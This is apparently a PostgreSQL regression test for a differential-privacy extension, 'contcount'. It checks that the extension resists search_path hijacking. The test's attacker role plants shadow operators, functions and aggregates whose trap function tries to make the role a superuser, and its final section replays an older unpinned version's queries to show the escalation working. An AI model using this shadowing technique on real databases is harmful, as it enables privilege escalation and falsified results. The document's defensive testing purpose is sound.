-- A hostile role shadows every operator and function contcount's SQL uses,
-- in a schema first on its search_path (and, for the step worker, in public),
-- then calls every public function of contcount.  Each shadow records the
-- call and tries to make its caller's role a superuser.  contcount runs its
-- SQL as the extension's owner with search_path pinned to pg_catalog,
-- pg_temp, so no shadow may ever run from its code: the attacker gains
-- nothing, spends nothing extra, and breaks nothing (issue 9, class 1).
-- The attacker's own statements name pg_catalog's operators and functions
-- (pg_catalog.count, OPERATOR(pg_catalog.=)) wherever they use one, so any
-- call recorded comes from contcount, whoever it ran as.  At the end, the
-- statements contcount 0.1 ran unpinned show what the shadows did to it.

-- The superuser: the attacker's ledgers, and a role to grant things to.
CREATE ROLE regress_attacker LOGIN;
CREATE ROLE regress_attacker_peer;
CREATE SCHEMA attacker AUTHORIZATION regress_attacker;
-- the step worker's search_path is the database's ("$user", public)
GRANT CREATE ON SCHEMA public TO regress_attacker;
SELECT contcount.create_ledger('attacker', 2);
SELECT contcount.grant_ledger('attacker', 'regress_attacker');
ALTER ROLE regress_attacker SET contcount.ledger = 'attacker';
-- a ledger it administers, to manage it
SELECT contcount.create_ledger('attacker_team', 1);
SELECT contcount.grant_ledger('attacker_team', 'regress_attacker', admin => true);
-- a protected source it may release a running mean from, which it cannot
-- read, paid for by a data ledger of its own
CREATE TABLE test.attack_scores (person int, at timestamptz, score float8);
INSERT INTO test.attack_scores
SELECT p % 3, '2026-01-01 00:00+00'::timestamptz + p * interval '1 hour', p % 5 FROM generate_series(1, 8) p;
SELECT contcount.create_ledger('attack_data', 1);
SELECT contcount.protect_table('attack_scores', 'test.attack_scores', 'person', 'at', 'attack_data');
SELECT contcount.source_mean_value('attack_scores', 'score');
SELECT contcount.grant_source('attack_scores', 'regress_attacker');

\c - regress_attacker
-- Its own table, its record of the shadows' calls, and its escalation trap.
CREATE TABLE attacker.events (day integer, kind text, n bigint);
INSERT INTO attacker.events VALUES
    (1, 'a', 3), (2, 'a', 0), (3, 'a', 5), (4, 'a', 1),
    (5, 'a', 2), (6, 'a', 0), (7, 'a', 4), (8, 'a', 1);
CREATE TABLE attacker.calls (
    shadow text,            -- which shadow ran
    role_name name,         -- current_user when it ran
    session_role name,      -- session_user when it ran
    escalated boolean,      -- did ALTER ROLE regress_attacker SUPERUSER work?
    sqlstate text,          -- why not
    query text              -- the client's statement that led to it
);
GRANT USAGE ON SCHEMA attacker TO PUBLIC;
GRANT INSERT ON attacker.calls TO PUBLIC;
CREATE FUNCTION attacker.trap(shadow text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    escalated boolean := false;
    state text;
BEGIN
    BEGIN
        ALTER ROLE regress_attacker SUPERUSER;
        escalated := true;
    EXCEPTION WHEN OTHERS THEN
        state := SQLSTATE;
    END;
    INSERT INTO attacker.calls
    VALUES (shadow, current_user, session_user, escalated, state, current_query());
END $$;
-- Its statements' SQLSTATE, or 'no error'; written without an operator, so
-- that it calls no shadow itself.
CREATE FUNCTION attacker.error_of(statement text) RETURNS text
LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE statement;
    RETURN 'no error';
EXCEPTION WHEN OTHERS THEN
    RETURN SQLSTATE;
END $$;

-- What a shadow returns: plausible, and wrong.  = is always true, < always
-- false, * is huge (a budget of a thousand epsilon), + - / leave the left
-- operand as it was (nothing added, nothing subtracted), now() is in 2000.
CREATE FUNCTION attacker.wrong_value(op text, ret regtype, args regtype[]) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    category "char" := (SELECT typcategory FROM pg_type WHERE oid = ret);
BEGIN
    IF ret = 'void'::regtype THEN
        RETURN '';
    ELSIF ret = 'boolean'::regtype THEN
        RETURN CASE WHEN op IN ('<>', '<', '>', '!~~', '!~~*') THEN 'false' ELSE 'true' END;
    ELSIF op = '*' OR op LIKE '%mul' THEN
        RETURN CASE ret
            WHEN 'smallint'::regtype THEN '32767::smallint'
            WHEN 'integer'::regtype THEN '2147483647'
            WHEN 'bigint'::regtype THEN '4611686018427387903::bigint'
            WHEN 'numeric'::regtype THEN '1000000000000::numeric'
            WHEN 'real'::regtype THEN '1e12::real'
            WHEN 'double precision'::regtype THEN '1e12::float8'
            WHEN 'interval'::regtype THEN '''100 years''::interval'
            ELSE format('NULL::%s', ret) END;
    ELSIF ret = args[1] THEN
        RETURN '$1';
    ELSIF ret = args[2] THEN
        RETURN '$2';
    ELSIF category IN ('N') THEN
        RETURN format('0::%s', ret);
    ELSIF category IN ('S') THEN
        RETURN format('%L::%s', 'shadowed', ret);
    ELSIF category IN ('D') THEN
        RETURN format('%L::%s', '2000-01-01', ret);
    ELSIF category IN ('T') THEN
        RETURN format('%L::%s', '0', ret);
    ELSE
        RETURN format('NULL::%s', ret);
    END IF;
END $$;

-- A shadow function: records its call, tries to escalate, returns a wrong value.
CREATE FUNCTION attacker.plant(schema_name text, fname text, args regtype[], ret regtype,
                               label text, op text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql '
                   'SET search_path = pg_catalog, pg_temp AS %L',
                   schema_name, fname,
                   (SELECT coalesce(string_agg(format('%s', a), ', ' ORDER BY i), '')
                    FROM unnest(args) WITH ORDINALITY u(a, i)),
                   ret,
                   format('BEGIN PERFORM attacker.trap(%L); RETURN %s; END',
                          label, attacker.wrong_value(op, ret, args)));
END $$;

-- Every operator contcount's SQL uses or might use, for every pair of the
-- types it works on: shadowed in schema attacker with the result type
-- PostgreSQL would give (mixed pairs such as (numeric, integer) included),
-- and, where pg_catalog has no operator with exactly those types (so the
-- shadow wins wherever it is on the path), in public too.
DO $$
DECLARE
    ops text[] := ARRAY['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '^',
                        '||', '~~', '!~~', '~~*', '!~~*'];
    types regtype[] := ARRAY['smallint', 'integer', 'bigint', 'numeric', 'real',
                             'double precision', 'oid', 'text', 'name', '"char"',
                             'character varying', 'boolean', 'timestamp with time zone',
                             'timestamp without time zone', 'date', 'interval', 'bytea',
                             'regrole', 'regclass']::regtype[];
    op text;
    l regtype;
    r regtype;
    res regtype;
    n integer := 0;
    sch text;
BEGIN
    SET LOCAL search_path = pg_catalog, pg_temp;
    FOREACH op IN ARRAY ops LOOP
        FOREACH l IN ARRAY types LOOP
            FOREACH r IN ARRAY types LOOP
                BEGIN
                    EXECUTE format('SELECT pg_typeof(NULL::%s %s NULL::%s)', l, op, r) INTO res;
                EXCEPTION WHEN OTHERS THEN
                    CONTINUE;
                END;
                FOREACH sch IN ARRAY ARRAY['attacker', 'public'] LOOP
                    CONTINUE WHEN sch = 'public' AND EXISTS (
                        SELECT FROM pg_operator
                        WHERE oprname = op AND oprleft = l AND oprright = r
                          AND oprnamespace = 'pg_catalog'::regnamespace);
                    n := n + 1;
                    PERFORM attacker.plant(sch, 'shadow_op_' || n, ARRAY[l, r], res,
                                           format('operator %s.%s(%s,%s)', sch, op, l, r), op);
                    EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.%I)',
                                   sch, op, l, r, sch, 'shadow_op_' || n);
                END LOOP;
            END LOOP;
        END LOOP;
    END LOOP;
    -- prefix operators
    FOREACH op IN ARRAY ARRAY['-', '+', '@'] LOOP
        FOREACH r IN ARRAY types LOOP
            BEGIN
                EXECUTE format('SELECT pg_typeof(%s NULL::%s)', op, r) INTO res;
            EXCEPTION WHEN OTHERS THEN
                CONTINUE;
            END;
            n := n + 1;
            PERFORM attacker.plant('attacker', 'shadow_op_' || n, ARRAY[r], res,
                                   format('operator attacker.%s(none,%s)', op, r), op);
            EXECUTE format('CREATE OPERATOR attacker.%s (RIGHTARG = %s, FUNCTION = attacker.%I)',
                           op, r, 'shadow_op_' || n);
        END LOOP;
    END LOOP;
END $$;

-- Every function contcount's SQL calls or might call, with every signature
-- pg_catalog gives it, and the functions behind the operators above.
DO $$
DECLARE
    names text[] := ARRAY[
        'now', 'statement_timestamp', 'transaction_timestamp', 'clock_timestamp',
        'pg_has_role', 'has_table_privilege', 'has_schema_privilege', 'has_function_privilege',
        'has_database_privilege', 'has_column_privilege', 'pg_get_userbyid',
        'current_setting', 'set_config', 'current_database', 'current_schema',
        'lower', 'upper', 'length', 'char_length', 'octet_length', 'extract', 'date_part',
        'date_trunc', 'timezone', 'to_char', 'to_timestamp', 'age', 'justify_interval',
        'make_interval', 'isfinite', 'int2', 'int4', 'int8', 'numeric', 'float4', 'float8',
        'text', 'name', 'oid', 'bool', 'regrole', 'to_regrole', 'to_regclass',
        'texteq', 'textne', 'nameeq', 'namene', 'format', 'quote_ident', 'quote_literal',
        'quote_nullable', 'abs', 'round', 'trunc', 'floor', 'ceil', 'ceiling', 'sqrt', 'exp',
        'ln', 'log', 'power', 'sign', 'mod', 'div', 'left', 'right', 'substr', 'substring',
        'strpos', 'position', 'btrim', 'ltrim', 'rtrim', 'replace', 'repeat', 'md5',
        'encode', 'decode', 'bit_count', 'random', 'pg_backend_pid', 'pg_sleep',
        'pg_advisory_xact_lock', 'pg_notify', 'txid_current', 'coalesce', 'nullif',
        'greatest', 'least'];
    p record;
    n integer := 0;
BEGIN
    SET LOCAL search_path = pg_catalog, pg_temp;
    FOR p IN
        SELECT f.proname, f.proargtypes::regtype[] AS args, f.prorettype::regtype AS ret
        FROM pg_proc f
        WHERE f.pronamespace = 'pg_catalog'::regnamespace
          AND f.prokind = 'f' AND NOT f.proretset AND f.provariadic = 0
          AND f.proallargtypes IS NULL
          AND (f.proname = ANY (names)
               OR f.oid IN (SELECT o.oprcode FROM pg_operator o
                            WHERE o.oprnamespace = 'pg_catalog'::regnamespace
                              AND o.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/')))
          AND NOT EXISTS (SELECT FROM unnest(f.proargtypes::oid[]) a JOIN pg_type t ON t.oid = a
                          WHERE t.typtype = 'p')
          AND (f.prorettype = 'void'::regtype
               OR (SELECT typtype FROM pg_type WHERE oid = f.prorettype) <> 'p')
        ORDER BY f.proname, f.oid
    LOOP
        PERFORM attacker.plant('attacker', p.proname, p.args, p.ret,
                               format('function attacker.%s(%s)', p.proname,
                                      array_to_string(p.args, ',')),
                               p.proname);
    END LOOP;
    -- the usual aggregates, for every non-polymorphic signature, and count(*)
    FOR p IN
        SELECT f.proname, f.proargtypes::regtype[] AS args, f.prorettype::regtype AS ret
        FROM pg_proc f
        WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'a'
          AND f.proname IN ('sum', 'count', 'max', 'min', 'avg', 'bool_and', 'bool_or', 'every',
                            'string_agg', 'bit_and', 'bit_or')
          AND f.pronargs > 0
          AND NOT EXISTS (SELECT FROM unnest(f.proargtypes::oid[]) a JOIN pg_type t ON t.oid = a
                          WHERE t.typtype = 'p')
          AND (SELECT typtype FROM pg_type WHERE oid = f.prorettype) <> 'p'
        ORDER BY f.proname, f.oid
    LOOP
        n := n + 1;
        PERFORM attacker.plant('attacker', 'shadow_agg_' || n, p.ret || p.args, p.ret,
                               format('aggregate attacker.%s(%s)', p.proname,
                                      array_to_string(p.args, ',')),
                               p.proname);
        EXECUTE format('CREATE AGGREGATE attacker.%I(%s) (SFUNC = attacker.%I, STYPE = %s)',
                       p.proname, array_to_string(p.args, ', '), 'shadow_agg_' || n, p.ret);
    END LOOP;
    -- count(x) for the types above (pg_catalog's is count("any")), and count(*)
    FOR p IN
        SELECT t AS arg FROM unnest(ARRAY['smallint', 'integer', 'bigint', 'numeric', 'oid', 'text',
                                          'boolean', 'timestamp with time zone', 'interval',
                                          'bytea']::regtype[]) t
    LOOP
        n := n + 1;
        PERFORM attacker.plant('attacker', 'shadow_agg_' || n, ARRAY['bigint'::regtype, p.arg],
                               'bigint', format('aggregate attacker.count(%s)', p.arg), 'count');
        EXECUTE format('CREATE AGGREGATE attacker.count(%s) (SFUNC = attacker.%I, STYPE = bigint, INITCOND = 0)',
                       p.arg, 'shadow_agg_' || n);
    END LOOP;
    PERFORM attacker.plant('attacker', 'shadow_agg_count_star', ARRAY['bigint'::regtype],
                           'bigint', 'aggregate attacker.count(*)', 'count');
    CREATE AGGREGATE attacker.count(*) (SFUNC = attacker.shadow_agg_count_star, STYPE = bigint,
                                        INITCOND = 0);
END $$;

-- The attacker puts its schema first, for every session of its own.
ALTER ROLE regress_attacker SET search_path = attacker, pg_catalog;

-- The superuser, on the database's path ("$user", public), creates a
-- counter that is not the attacker's; the step worker loads it.
\c - postgres
SHOW search_path;
SELECT contcount.create_counter('attack_victim', 0.5, horizon => 4, step => '1 day', mechanism => 'binary');
SELECT spent AS tests_spent_before FROM contcount.ledgers WHERE name = 'tests' \gset

\c - regress_attacker
SHOW search_path;

-- The shadows are live: on this path they, not pg_catalog's, answer (and
-- fail to escalate, run by the attacker itself).
BEGIN;
SELECT 'a'::text = 'b'::text AS "text = text is true",
       2::bigint < 3::bigint AS "bigint < bigint is false",
       1.5 * 2 AS "numeric * integer is huge",
       pg_catalog.count(*) AS rows, count(*) AS "count(*) is 0"
FROM attacker.events;
SELECT shadow, role_name, escalated, sqlstate, pg_catalog.count(*) AS calls
FROM attacker.calls WHERE role_name OPERATOR(pg_catalog.=) 'regress_attacker'
GROUP BY shadow, role_name, escalated, sqlstate ORDER BY shadow;
ROLLBACK;

-- Every public function of contcount, called on this path.
SELECT contcount.mechanism('two_level', 0.25, horizon => 16);
-- running_count as a window function (0.125) and as a plain aggregate
-- (0.0625), noisy_count in both forms and grouped (0.03125 each, 0.015625),
-- running_counts with the ledger set and named (0.25 each).  One group only,
-- so that the sum does not depend on how grouped releases are charged.
SELECT pg_catalog.count(r) AS releases FROM (
    SELECT contcount.running_count(n, contcount.mechanism('two_level', 0.125, horizon => 16))
               OVER (ORDER BY day ROWS UNBOUNDED PRECEDING) AS r
    FROM attacker.events) s;
SELECT (contcount.running_count(n, 0.0625, 8 ORDER BY day)).t FROM attacker.events;
SELECT contcount.noisy_count(0.03125) IS NOT NULL AS released FROM attacker.events;
SELECT contcount.noisy_count(0.03125, 'attacker') IS NOT NULL AS released FROM attacker.events;
SELECT kind, contcount.noisy_count(0.015625) IS NOT NULL AS released
FROM attacker.events GROUP BY kind;
SELECT pg_catalog.count(*) AS releases, pg_catalog.max(t) AS last_t
FROM contcount.running_counts(ARRAY(SELECT n FROM attacker.events ORDER BY day), 0.25, mechanism => 'binary');
SELECT pg_catalog.count(*) AS releases
FROM contcount.running_counts(ARRAY[1, 2, 3]::bigint[], 0.25, mechanism => 'hybrid', ledger => 'attacker');
-- running_mean as a window function (0.0078125) and from the protected
-- source (0.00390625, to its ledger and to the source's)
SELECT pg_catalog.count(r) AS releases, pg_catalog.max((r).t) AS last_t FROM (
    SELECT contcount.running_mean(n::float8, kind, contcount.mean_mechanism(0, 5, 0.0078125, 16, 4))
               OVER (ORDER BY day ROWS UNBOUNDED PRECEDING) AS r
    FROM attacker.events) s;
SELECT pg_catalog.count(*) AS releases, pg_catalog.max(t) AS last_t
FROM contcount.source_running_mean('attack_scores', 'score', contcount.mean_mechanism(0, 5, 0.00390625, 16, 4));
-- window_counts (0.001953125) and streaming_composition (nothing to pay)
SELECT pg_catalog.count(*) AS releases, pg_catalog.max(t) AS last_t
FROM contcount.window_counts(ARRAY(SELECT n FROM attacker.events ORDER BY day), 3, 0.001953125);
SELECT epsilon, delta FROM contcount.streaming_composition(0.5, 0.000001, 0.5, 4);
SELECT epsilon_max OPERATOR(pg_catalog.>) 0 AS from_curve
FROM contcount.streaming_composition(contcount.mechanism('binary', 0.5, horizon => 16), 0.000001, 1, 4);
-- the ledger it administers: spend, manage, grant, revoke
SELECT contcount.noisy_count(0.5, 'attacker_team') IS NOT NULL AS released FROM attacker.events;
SELECT contcount.alter_ledger('attacker_team', 3);
SELECT contcount.grant_ledger('attacker_team', 'regress_attacker_peer');
SELECT contcount.grant_ledger('attacker_team', 'regress_attacker_peer', admin => true);
SELECT contcount.revoke_ledger('attacker_team', 'regress_attacker_peer');
-- what it may not do is still refused
SELECT s, attacker.error_of(s) FROM (VALUES
    ($$SELECT contcount.create_ledger('mine', 100)$$),
    ($$SELECT contcount.alter_ledger('attacker', 100)$$),
    ($$SELECT contcount.alter_ledger('tests', 100)$$),
    ($$SELECT contcount.grant_ledger('tests', 'regress_attacker')$$),
    ($$SELECT contcount.revoke_ledger('attacker', 'regress_attacker')$$),
    ($$SELECT contcount.drop_ledger('tests')$$),
    ($$SELECT contcount.noisy_count(0.001, 'tests') FROM attacker.events$$),
    ($$SELECT * FROM contcount.running_counts(ARRAY[1]::bigint[], 0.001, ledger => 'tests', mechanism => 'binary')$$),
    ($$SELECT * FROM contcount.running_counts(ARRAY[1]::bigint[], mechanism => 'blt', rho => 0.5)$$),
    ($$SELECT contcount.running_count(n, contcount.mechanism('gaussian_honaker', rho => 0.5, horizon => 16, ledger => 'attacker'))
           OVER (ORDER BY day ROWS UNBOUNDED PRECEDING) FROM attacker.events$$),
    ($$SELECT * FROM contcount.counter_internals('attack_victim')$$),
    ($$SELECT * FROM contcount.current('attack_victim')$$),
    ($$SELECT contcount.tick('attack_victim')$$),
    ($$SELECT contcount.drop_counter('attack_victim')$$),
    ($$SELECT contcount.grant_counter('attack_victim', 'regress_attacker')$$),
    ($$SELECT * FROM contcount.ledger$$),
    ($$SELECT * FROM contcount.counter$$),
    ($$SELECT contcount.ledger_granted(1, 1, true)$$),
    ($$SELECT contcount.counter_granted(1, 1)$$)
) AS cases(s);
-- a counter of its own, fed by its own table (0.25)
SELECT contcount.create_counter('attacker_counter', 0.25, horizon => 16, step => '1 day', beta => 1e-9, mechanism => 'binary');
CREATE TRIGGER count_events AFTER INSERT ON attacker.events
    FOR EACH STATEMENT EXECUTE FUNCTION contcount.count_inserts('attacker_counter');
INSERT INTO attacker.events VALUES (9, 'a', 1), (10, 'a', 1), (11, 'a', 1);
SELECT contcount.tick('attacker_counter');
INSERT INTO attacker.events VALUES (12, 'a', 1), (13, 'a', 1);
SELECT contcount.tick('attacker_counter');
SELECT contcount.grant_counter('attacker_counter', 'regress_attacker_peer');
SELECT contcount.revoke_counter('attacker_counter', 'regress_attacker_peer');
SELECT t, noisy_count IS NOT NULL AS released FROM contcount.current('attacker_counter');
SELECT t, stddev IS NOT NULL AS has_stddev FROM contcount.history('attacker_counter') ORDER BY t;
SELECT name, mechanism, epsilon, horizon, step, ledger, steps, finished, owner
FROM contcount.counters ORDER BY name;
-- the views, as it sees them
SELECT name, budget, spent, remaining FROM contcount.ledgers ORDER BY name;
SELECT role, ledger, epsilon, function FROM contcount.charges ORDER BY at;
-- spent: 0.125 + 0.0625 + 2 * 0.03125 + 0.015625 + 2 * 0.25 + 0.25
-- + 0.0078125 + 0.00390625 + 0.001953125 = 1.029296875; of 2, 0.970703125
-- is left: a billionth more is refused, exactly that passes, then nothing is
-- left
SELECT s, attacker.error_of(s) FROM (VALUES
    ($$SELECT * FROM contcount.running_counts(ARRAY[1]::bigint[], 0.970703126, mechanism => 'binary')$$),
    ($$SELECT contcount.noisy_count(0.970703126) FROM attacker.events$$),
    ($$SELECT contcount.create_counter('overspent', 0.970703126, horizon => 4, mechanism => 'binary')$$),
    ($$SELECT * FROM contcount.running_counts(ARRAY[1]::bigint[], 0.970703125, mechanism => 'binary')$$),
    ($$SELECT contcount.noisy_count(0.000001) FROM attacker.events$$)
) AS cases(s);

-- The superuser: nothing gained, nothing spent beyond the releases made,
-- nothing broken.  (pg_catalog only: public holds shadows for the worker.)
\c - postgres
SET search_path = pg_catalog, pg_temp;
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'regress_attacker';
-- what was planted
SELECT count(*) FILTER (WHERE o.oprnamespace = 'attacker'::regnamespace) AS operators,
       count(*) FILTER (WHERE o.oprnamespace = 'public'::regnamespace) AS public_operators
FROM pg_operator o WHERE o.oprowner = 'regress_attacker'::regrole;
SELECT count(*) FILTER (WHERE p.prokind = 'f' AND p.proname !~ '^shadow_') AS functions,
       count(*) FILTER (WHERE p.prokind = 'a') AS aggregates
FROM pg_proc p WHERE p.pronamespace = 'attacker'::regnamespace;
SELECT s, to_regprocedure(s) IS NOT NULL OR to_regoperator(s) IS NOT NULL AS planted
FROM unnest(ARRAY['attacker.=(text,text)', 'attacker.=(bigint,bigint)', 'attacker.=(oid,oid)',
                  'attacker.*(numeric,integer)', 'public.*(numeric,integer)',
                  'attacker.sum(bigint)', 'attacker.count()', 'attacker.now()',
                  'attacker.extract(text,interval)', 'attacker.pg_has_role(oid,oid,text)',
                  'attacker.texteq(text,text)', 'attacker.int8(numeric)']) s;
-- no shadow ran, as anyone, from contcount's code or the step worker
SELECT count(*) AS shadow_calls FROM attacker.calls;
SELECT shadow, role_name, escalated, count(*) AS calls,
       coalesce(left(query, 60), '(the step worker)') AS query
FROM attacker.calls GROUP BY shadow, role_name, escalated, query ORDER BY query, shadow;
-- exactly what its releases cost, to the ledgers it may spend
SELECT name, budget, spent, remaining,
       spent = 0.125 + 0.0625 + 2 * 0.03125 + 0.015625 + 2 * 0.25 + 0.25 + 0.0078125 + 0.00390625
               + 0.97265625 AS spent_exactly
FROM contcount.ledgers WHERE name = 'attacker';
SELECT name, spent, spent = 0.00390625 AS spent_exactly FROM contcount.ledgers WHERE name = 'attack_data';
SELECT name, budget, spent, spent = 0.5 AS spent_exactly
FROM contcount.ledgers WHERE name = 'attacker_team';
SELECT spent = :'tests_spent_before' AS tests_untouched FROM contcount.ledgers WHERE name = 'tests';
SELECT ledger, function, count(*) AS charges, sum(epsilon) AS epsilon
FROM contcount.charges WHERE ledger IN ('attacker', 'attacker_team', 'attack_data')
GROUP BY ledger, function ORDER BY ledger, function;
-- the counter: every step released, error bars as the formula says, each
-- release within its bound of the exact count (beta = 1e-9)
SELECT steps, exact_released, pending FROM contcount.counter_internals('attacker_counter');
SELECT h.t, round(h.stddev::numeric, 4) = round(sqrt(bit_count(h.t::bit(64)) * test.dlap_var(20))::numeric, 4)
           AS stddev_as_formula,
       abs(h.noisy_count - CASE h.t WHEN 1 THEN 3 ELSE 5 END) <= h.bound AS within_bound
FROM contcount.history('attacker_counter') h ORDER BY h.t;
SELECT count(*) AS refused_counter FROM contcount.counter WHERE name = 'overspent';
SELECT count(*) AS peer_grants
FROM contcount.ledger_grant WHERE role_id = 'regress_attacker_peer'::regrole;

-- Dropping, on the same path.
\c - regress_attacker
SELECT contcount.drop_counter('attacker_counter');
SELECT contcount.drop_ledger('attacker_team');
SELECT name FROM contcount.ledgers ORDER BY name;
SELECT name FROM contcount.counters;

\c - postgres
SET search_path = pg_catalog, pg_temp;
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'regress_attacker';
SELECT count(*) AS shadow_calls FROM attacker.calls;
SELECT shadow, role_name, escalated, count(*) AS calls,
       coalesce(left(query, 60), '(the step worker)') AS query
FROM attacker.calls GROUP BY shadow, role_name, escalated, query ORDER BY query, shadow;
SELECT count(*) AS attacker_counters FROM contcount.counter WHERE name = 'attacker_counter';
SELECT name, dropped_at IS NOT NULL AS dropped FROM contcount.ledger
WHERE name IN ('attacker', 'attacker_team') ORDER BY name;

-- The trap is armed.  What contcount 0.1 ran as the extension's owner,
-- unpinned, to find the ledger a release charges (lookup_ledger), on the
-- attacker's path: the budget of 2 reads as a thousand epsilon, and the
-- attacker is a superuser.
BEGIN;
SET LOCAL search_path = attacker, pg_catalog;
SELECT budget_units
FROM (SELECT id, (budget * 1000000000)::pg_catalog.int8 AS budget_units FROM contcount.ledger
      WHERE name = 'attacker' AND dropped_at IS NULL) s
WHERE id OPERATOR(pg_catalog.=) (SELECT id FROM contcount.ledger
                                WHERE name OPERATOR(pg_catalog.=) 'attacker');
SET LOCAL search_path = pg_catalog, pg_temp;
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'regress_attacker';
SELECT DISTINCT shadow, role_name, escalated FROM attacker.calls ORDER BY shadow;
ROLLBACK;
-- And what the step worker ran (load_counters), on the database's path:
-- public's *(numeric, integer) wins over pg_catalog's *(numeric, numeric).
BEGIN;
SET LOCAL search_path = "$user", public;
SELECT (extract(epoch FROM step) * 1000000)::pg_catalog.int8 AS step_usecs
FROM contcount.counter WHERE name = 'attack_victim';
SET LOCAL search_path = pg_catalog, pg_temp;
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'regress_attacker';
SELECT DISTINCT shadow, role_name, escalated FROM attacker.calls ORDER BY shadow;
ROLLBACK;

RESET search_path;
SELECT contcount.drop_counter('attack_victim');
SELECT contcount.drop_source('attack_scores');
DROP TABLE test.attack_scores;
SELECT contcount.drop_ledger('attack_data');
SELECT contcount.drop_ledger('attacker');
DROP OWNED BY regress_attacker, regress_attacker_peer;
DROP ROLE regress_attacker, regress_attacker_peer;
